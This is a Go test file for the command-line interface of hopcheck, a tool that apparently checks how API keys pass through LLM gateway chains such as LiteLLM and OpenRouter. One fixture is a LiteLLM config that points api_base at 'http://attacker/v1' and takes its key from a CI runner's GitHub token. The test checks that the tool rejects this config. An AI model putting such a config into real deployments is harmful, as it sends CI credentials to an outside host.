package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"flag"
	"maps"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"text/template"

	"github.com/hopcheck/hopcheck/internal/finding"
	"github.com/hopcheck/hopcheck/internal/sim"
	"github.com/hopcheck/hopcheck/internal/trust"
	"github.com/hopcheck/hopcheck/internal/version"
)

var update = flag.Bool("update", false, "rewrite golden files")

type result struct {
	code           int
	stdout, stderr string
}

func run(t *testing.T, dir string, vars map[string]string, args ...string) result {
	t.Helper()
	if _, ok := vars[trust.AllowEnv]; !ok {
		// The simulated services listen on loopback: allow them as a user
		// allows a self-hosted gateway (tests of the refusal set it).
		vars = maps.Clone(vars)
		if vars == nil {
			vars = map[string]string{}
		}
		vars[trust.AllowEnv] = sim.LoopbackNet
	}
	var out, errb bytes.Buffer
	env := Env{
		LookupEnv: func(k string) (string, bool) { v, ok := vars[k]; return v, ok },
		Stdout:    &out, Stderr: &errb, Dir: dir,
	}
	code := Main(context.Background(), args, env)
	return result{code, out.String(), errb.String()}
}

// startChain starts a LiteLLM proxy (from the simulator's own config file
// format) in front of a simulated OpenRouter. proxyHasKey controls whether
// the proxy's environment holds the upstream key.
func startChain(t *testing.T, proxyHasKey bool) (lite, or string, vars map[string]string) {
	t.Helper()
	orKey := sim.FakeOpenRouterKey("cli-test")
	master := sim.FakeLiteLLMKey("cli-test")
	ors, err := sim.Listen("127.0.0.1", sim.NewOpenRouter(orKey))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = ors.Close() })
	cfg := `model_list:
  - model_name: claude-sonnet-4.5
    litellm_params:
      model: openrouter/anthropic/claude-sonnet-4.5
      api_key: os.environ/OPENROUTER_API_KEY
      api_base: ` + ors.URL + `/api/v1
general_settings:
  master_key: os.environ/LITELLM_MASTER_KEY
`
	penv := map[string]string{"LITELLM_MASTER_KEY": master}
	if proxyHasKey {
		penv["OPENROUTER_API_KEY"] = orKey
	}
	ll, err := sim.NewLiteLLMFromYAML("config.yaml", []byte(cfg), penv)
	if err != nil {
		t.Fatal(err)
	}
	ls, err := sim.Listen("127.0.0.1", ll)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = ls.Close() })
	return ls.URL, ors.URL, map[string]string{"LITELLM_KEY": master, "OPENROUTER_API_KEY": orKey}
}

func writeConfig(t *testing.T, dir, lite, or string) string {
	t.Helper()
	tmpl := template.Must(template.ParseFiles("testdata/review-bot.yml.tmpl"))
	var b bytes.Buffer
	if err := tmpl.Execute(&b, map[string]string{"LiteLLM": lite, "OpenRouter": or}); err != nil {
		t.Fatal(err)
	}
	p := filepath.Join(dir, "hopcheck.yml")
	if err := os.WriteFile(p, b.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

var portRE = regexp.MustCompile(`127\.0\.0\.1:\d+`)

// normalise drops what changes between runs (timings, ports, temp dirs)
// and releases (the report's version, shown as $VERSION).
func normalise(t *testing.T, raw, dir string) []byte {
	t.Helper()
	var v any
	if err := json.Unmarshal([]byte(raw), &v); err != nil {
		t.Fatalf("not JSON: %v\n%s", err, raw)
	}
	var walk func(any) any
	walk = func(x any) any {
		switch x := x.(type) {
		case map[string]any:
			delete(x, "timings_ms")
			if v, ok := x["version"].(string); ok && v == version.Version {
				x["version"] = "$VERSION"
			}
			if _, ok := x["duration_ms"]; ok {
				x["duration_ms"] = 0
			}
			for k, e := range x {
				x[k] = walk(e)
			}
		case []any:
			for i, e := range x {
				x[i] = walk(e)
			}
		case string:
			s := strings.ReplaceAll(x, dir, "$DIR")
			return portRE.ReplaceAllString(s, "127.0.0.1:PORT")
		}
		return x
	}
	out, err := json.MarshalIndent(walk(v), "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	return append(out, '\n')
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	p := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(p, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(p)
	if err != nil {
		t.Fatalf("%v (run go test ./cli -update)", err)
	}
	if !bytes.Equal(want, got) {
		t.Errorf("%s differs from golden:\n--- got\n%s\n--- want\n%s", name, got, want)
	}
}

func TestCheckJSONAgainstSimulator(t *testing.T) {
	for _, tc := range []struct {
		name        string
		proxyHasKey bool
		code        int
	}{{"check-pass.golden.json", true, ExitOK}, {"check-fail.golden.json", false, ExitFailed}} {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			lite, or, vars := startChain(t, tc.proxyHasKey)
			cfg := writeConfig(t, dir, lite, or)
			r := run(t, dir, vars, "check", "--config", cfg, "--format", "json")
			if r.code != tc.code {
				t.Fatalf("exit %d, want %d\nstdout:%s\nstderr:%s", r.code, tc.code, r.stdout, r.stderr)
			}
			golden(t, tc.name, normalise(t, r.stdout, dir))
			var rep finding.Report
			if err := json.Unmarshal([]byte(r.stdout), &rep); err != nil {
				t.Fatal(err)
			}
			if !tc.proxyHasKey {
				c := rep.Chains[0]
				if c.FailingLink == nil || c.FailingLink.String() != "litellm → openrouter" || c.Cause != finding.HeaderMissing {
					t.Errorf("failing %v %s", c.FailingLink, c.Cause)
				}
				if rep.Chains[1].Status != finding.Pass {
					t.Errorf("the direct evals chain should pass: %+v", rep.Chains[1])
				}
			}
		})
	}
}

func TestConfigDiscoveryOrder(t *testing.T) {
	dir := t.TempDir()
	lite, or, vars := startChain(t, true)
	writeConfig(t, dir, lite, or)
	if r := run(t, dir, vars, "check"); r.code != ExitOK {
		t.Fatalf("hopcheck.yml in the working directory not used: %d %s %s", r.code, r.stdout, r.stderr)
	}
	// .github/hopcheck.yml wins over hopcheck.yml.
	if err := os.MkdirAll(filepath.Join(dir, ".github"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, ".github", "hopcheck.yml"), []byte("version: 1\nchains: []\nbogus: 1\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	r := run(t, dir, vars, "check")
	if r.code != ExitUsage || !strings.Contains(r.stderr, ".github/hopcheck.yml:") {
		t.Fatalf(".github/hopcheck.yml should be read first and rejected: %d %q", r.code, r.stderr)
	}
}

func TestBadConfigExit2WithPosition(t *testing.T) {
	dir := t.TempDir()
	for name, tc := range map[string]struct{ body, want string }{
		"unknown key":  {"version: 1\nchains:\n  - name: a\n    model: m\n    hopz: []\n", "hopcheck.yml:5:5"},
		"wrong type":   {"version: 1\nchains:\n  - name: a\n    model: m\n    hops: 3\n", "hopcheck.yml:5:"},
		"syntax error": {"version: 1\nchains:\n  - name: a\n   model: [\n", "hopcheck.yml:"},
		"bad hop type": {"version: 1\nchains:\n  - name: a\n    model: m\n    hops:\n      - name: x\n        type: nginx\n        url: http://127.0.0.1:1\n", "hopcheck.yml:7:15"},
	} {
		t.Run(name, func(t *testing.T) {
			p := filepath.Join(dir, "hopcheck.yml")
			if err := os.WriteFile(p, []byte(tc.body), 0o644); err != nil {
				t.Fatal(err)
			}
			r := run(t, dir, nil, "check", "--config", p)
			if r.code != ExitUsage {
				t.Fatalf("exit %d, want 2; %s", r.code, r.stderr)
			}
			if !strings.Contains(r.stderr, tc.want) {
				t.Errorf("stderr %q lacks position %q", r.stderr, tc.want)
			}
			if r.stdout != "" {
				t.Errorf("a config error must not print a report: %q", r.stdout)
			}
		})
	}
	if r := run(t, t.TempDir(), nil, "check"); r.code != ExitUsage || !strings.Contains(r.stderr, "hopcheck.yml") {
		t.Errorf("no config: exit %d %q", r.code, r.stderr)
	}
}

func TestUsageErrors(t *testing.T) {
	for _, args := range [][]string{
		{}, {"frobnicate"}, {"check", "--format", "xml"}, {"check", "--fail-on", "sometimes"},
		{"check", "--canary", "full"}, {"check", "--nope"}, {"explain"}, {"explain", "no-such-code"},
		{"demo", "--scenario", "no-such-scenario"}, {"check", "extra-arg"},
	} {
		if r := run(t, t.TempDir(), nil, args...); r.code != ExitUsage {
			t.Errorf("%v: exit %d, want 2", args, r.code)
		}
	}
	// embedding is a chain's own canary, never a run-wide override: it
	// would turn every chat chain into an embeddings call.
	if r := run(t, t.TempDir(), nil, "check", "--canary", "embedding"); r.code != ExitUsage ||
		!strings.Contains(r.stderr, `--canary "embedding": use inference or auth-only`) {
		t.Errorf("--canary embedding: exit %d, stderr %q; want 2 naming the override values", r.code, r.stderr)
	}
	for _, flag := range []string{"--concurrency", "--origin-concurrency"} {
		for _, v := range []string{"0", "257"} {
			if r := run(t, t.TempDir(), nil, "check", flag, v); r.code != ExitUsage || !strings.Contains(r.stderr, flag+" "+v+": use 1 to 256") {
				t.Errorf("%s %s: exit %d, stderr %q; want 2 naming the flag and its range", flag, v, r.code, r.stderr)
			}
		}
	}
}

func TestFailOn(t *testing.T) {
	dir := t.TempDir()
	lite, or, vars := startChain(t, false)
	cfg := writeConfig(t, dir, lite, or)
	for failOn, want := range map[string]int{"error": ExitFailed, "warning": ExitFailed, "never": ExitOK} {
		if r := run(t, dir, vars, "check", "--config", cfg, "--fail-on", failOn); r.code != want {
			t.Errorf("--fail-on %s: exit %d, want %d", failOn, r.code, want)
		}
	}
}

func TestOutputFileIsComplete(t *testing.T) {
	dir := t.TempDir()
	lite, or, vars := startChain(t, true)
	cfg := writeConfig(t, dir, lite, or)
	out := filepath.Join(dir, "report.json")
	r := run(t, dir, vars, "check", "--config", cfg, "--format", "json", "--output", out)
	if r.code != ExitOK {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	b, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	var rep finding.Report
	if err := json.Unmarshal(b, &rep); err != nil || rep.Schema != finding.SchemaID {
		t.Fatalf("report file invalid: %v %q", err, b)
	}
	if !strings.Contains(r.stdout, "hopcheck: PASS") {
		t.Errorf("stdout should still show the text report: %q", r.stdout)
	}
	if r := run(t, dir, vars, "check", "--config", cfg, "--output", filepath.Join(dir, "no/such/dir/r.json")); r.code != ExitUsage {
		t.Errorf("unwritable --output: exit %d", r.code)
	}
}

func TestExplainEveryCause(t *testing.T) {
	for _, c := range finding.Causes() {
		r := run(t, t.TempDir(), nil, "explain", string(c))
		if r.code != ExitOK || !strings.Contains(r.stdout, "Fix: ") || !strings.HasPrefix(r.stdout, string(c)) {
			t.Errorf("explain %s: %d %q", c, r.code, r.stdout)
		}
	}
	if r := run(t, t.TempDir(), nil, "version"); r.code != ExitOK || !strings.HasPrefix(r.stdout, "hopcheck ") {
		t.Errorf("version: %d %q", r.code, r.stdout)
	}
}

// Every demo scenario, every output format: no credential of the job, and
// no 12-character piece of one, appears in any byte hopcheck writes.
func TestNoSecretInAnyOutput(t *testing.T) {
	for _, sc := range sim.Scenarios() {
		t.Run(sc.Name, func(t *testing.T) {
			env, err := sim.Start(sc.Name) // same deterministic keys as the demo's
			if err != nil {
				t.Fatal(err)
			}
			env.Close()
			dir := t.TempDir()
			var all strings.Builder
			for _, format := range []string{"text", "json"} {
				out := filepath.Join(dir, "r."+format)
				for _, args := range [][]string{
					{"demo", "--scenario", sc.Name, "--format", format},
					{"demo", "--scenario", sc.Name, "--format", format, "--output", out},
				} {
					r := run(t, dir, nil, args...)
					all.WriteString(r.stdout + r.stderr)
				}
				b, _ := os.ReadFile(out)
				all.Write(b)
			}
			text := all.String()
			for name, v := range env.Vars {
				for i := 0; i+12 <= len(v); i++ {
					if strings.Contains(text, v[i:i+12]) {
						t.Fatalf("output leaks %s (substring %d)", name, i)
					}
				}
			}
		})
	}
}

// A bad action input is one escaped ::error (the title's colon escaped as
// the runner requires) and exit 2, before anything else runs.
func TestActionBadInput(t *testing.T) {
	r := run(t, t.TempDir(), map[string]string{"GITHUB_ACTIONS": "true", "INPUT_FAIL-ON": "sometimes"})
	if r.code != ExitUsage {
		t.Fatalf("exit %d, want 2", r.code)
	}
	if !strings.HasPrefix(r.stdout, "::error title=hopcheck%3A invalid input::") || strings.Count(r.stdout, "\n") != 1 {
		t.Errorf("stdout %q", r.stdout)
	}
}

// A config naming a runner variable as a credential is a configuration
// error at its line (exit 2) in every source: hopcheck.yml's key_env, a
// LiteLLM os.environ/ reference, an OpenClaw ${…} reference.
func TestRunnerVariablesAreConfigErrors(t *testing.T) {
	for _, c := range []struct {
		name, file, body, want string
	}{
		{"hopcheck.yml key_env", ".github/hopcheck.yml", `version: 1
chains:
  - name: bot
    model: m
    hops:
      - name: gw
        type: litellm
        url: http://127.0.0.1:4000
        key_env: GITHUB_TOKEN
`, ".github/hopcheck.yml:9:18: key_env GITHUB_TOKEN"},
		{"LiteLLM os.environ", "deploy/config.yaml", `model_list:
  - model_name: m
    litellm_params:
      model: openai/gpt-4o
      api_base: http://attacker/v1
      api_key: os.environ/INPUT_GITHUB-TOKEN
`, "deploy/config.yaml:6:16: INPUT_GITHUB-TOKEN is a variable the CI runner sets"},
		{"OpenClaw ${}", "openclaw.json", `{ gateway: { auth: { token: "${ACTIONS_RUNTIME_TOKEN}" } } }`,
			"openclaw.json:1:30: ACTIONS_RUNTIME_TOKEN is a variable the CI runner sets"},
	} {
		t.Run(c.name, func(t *testing.T) {
			dir := t.TempDir()
			p := filepath.Join(dir, filepath.FromSlash(c.file))
			if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(p, []byte(c.body), 0o644); err != nil {
				t.Fatal(err)
			}
			r := run(t, dir, map[string]string{"GITHUB_TOKEN": "ghs_0123456789abcdefghij0123456789abcdef", "INPUT_GITHUB-TOKEN": "ghs_0123456789abcdefghij0123456789abcdef",
				"ACTIONS_RUNTIME_TOKEN": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ4In0.c2lnbmF0dXJl"}, "check")
			if r.code != ExitUsage || !strings.Contains(r.stderr, c.want) || !strings.Contains(r.stderr, "never") {
				t.Fatalf("exit %d, stderr:\n%s\nwant %q", r.code, r.stderr, c.want)
			}
			if strings.Contains(r.stdout+r.stderr, "ghs_0123") {
				t.Error("the token was printed")
			}
		})
	}
}

// A config error quotes the offending value; a credential written there is
// redacted before it is printed.
func TestConfigErrorsAreRedacted(t *testing.T) {
	dir := t.TempDir()
	tok := "ghp_" + strings.Repeat("A1b2", 9)
	yml := "version: 1\nchains:\n  - name: bot\n    model: m\n    hops:\n      - name: gw\n        type: litellm\n        url: http://127.0.0.1:4000\n        key_env: \"" + tok + "-x\"\n"
	if err := os.WriteFile(filepath.Join(dir, "hopcheck.yml"), []byte(yml), 0o644); err != nil {
		t.Fatal(err)
	}
	r := run(t, dir, nil, "check")
	if r.code != ExitUsage || !strings.Contains(r.stderr, "hopcheck.yml:9") {
		t.Fatalf("exit %d, stderr %s", r.code, r.stderr)
	}
	if strings.Contains(r.stdout+r.stderr, tok[:16]) {
		t.Errorf("the token was printed:\n%s", r.stderr)
	}
}
